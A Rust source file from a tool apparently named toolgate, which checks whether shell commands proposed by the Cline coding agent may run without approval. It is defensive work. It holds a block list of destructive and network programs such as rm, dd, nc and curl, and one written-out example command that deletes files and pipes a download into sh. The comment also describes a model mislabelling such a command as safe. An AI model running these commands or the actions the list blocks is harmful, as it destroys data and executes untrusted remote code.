//! Command safety: whether a command may count as Cline's "safe command". Cline trusts the
//! model's `requires_approval: false` alone; toolgate also requires that its own analysis finds
//! nothing risky, so a model that mislabels `rm -rf build && curl x | sh` gains nothing.

use crate::shell::{Analysis, Problem, SimpleCommand};

/// Programs that change or destroy state, run code given to them, or reach the network.
/// A command using any of them is never "safe", whatever the model says.
const RISKY_PROGRAMS: &[&str] = &[
    "rm",
    "rmdir",
    "unlink",
    "mv",
    "dd",
    "shred",
    "truncate",
    "wipefs",
    "mkfs",
    "chmod",
    "chown",
    "chgrp",
    "ln",
    "tee",
    "kill",
    "pkill",
    "killall",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "init",
    "systemctl",
    "service",
    "mount",
    "umount",
    "sudo",
    "doas",
    "su",
    "eval",
    "exec",
    "source",
    ".",
    "curl",
    "wget",
    "ssh",
    "scp",
    "sftp",
    "rsync",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "ftp",
    "bash",
    "sh",
    "zsh",
    "dash",
    "fish",
    "ksh",
    "csh",
    "python",
    "python3",
    "node",
    "perl",
    "ruby",
    "php",
    "deno",
    "bun",
    "osascript",
    "powershell",
    "pwsh",
    "crontab",
    "at",
    "docker",
    "kubectl",
    "terraform",
    "xargs",
    "find",
    "sed",
    "awk",
    "install",
    "cp",
    "patch",
    "npx",
];

/// Sub-commands of otherwise harmless programs that are not.
const RISKY_SUBCOMMANDS: &[(&str, &str)] = &[
    ("git", "push"),
    ("git", "reset"),
    ("git", "clean"),
    ("git", "checkout"),
    ("git", "rebase"),
    ("git", "filter-branch"),
    ("npm", "publish"),
    ("npm", "exec"),
    ("cargo", "publish"),
    ("yarn", "publish"),
    ("pnpm", "publish"),
];

/// Why `analysis` is not safe, or `None` when nothing risky was found.
pub fn risk(analysis: &Analysis) -> Option<String> {
    match &analysis.problem {
        Some(Problem::Unparseable(why)) => {
            return Some(format!("the command cannot be analysed ({why})"))
        }
        Some(Problem::Suspicious(why)) => {
            return Some(format!("the command is suspicious ({why})"))
        }
        None => {}
    }
    if !analysis.plain {
        return Some(
            "the command uses redirections, substitutions or other non-plain syntax".into(),
        );
    }
    analysis.commands.iter().find_map(risky_command)
}

fn risky_command(cmd: &SimpleCommand) -> Option<String> {
    // A launcher (`sudo`, `xargs`, `bash -c`) is judged like the program it is.
    for w in &cmd.wrappers {
        let base = w.name.split_whitespace().next().unwrap_or(&w.name);
        if RISKY_PROGRAMS.contains(&base) {
            return Some(format!(
                "`{}` can change the system or run arbitrary code",
                w.name
            ));
        }
    }
    let name = program(cmd)?;
    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
    if RISKY_PROGRAMS.contains(&base) || base.starts_with("mkfs.") {
        return Some(format!(
            "`{base}` can change the system or run arbitrary code"
        ));
    }
    let sub = cmd.words.iter().skip(1).find(|w| !w.starts_with('-'));
    if let Some(sub) = sub {
        if RISKY_SUBCOMMANDS
            .iter()
            .any(|(p, s)| *p == base && s == sub)
        {
            return Some(format!("`{base} {sub}` changes state"));
        }
    }
    None
}

fn program(cmd: &SimpleCommand) -> Option<&str> {
    cmd.words.first().map(|s| s.as_str())
}
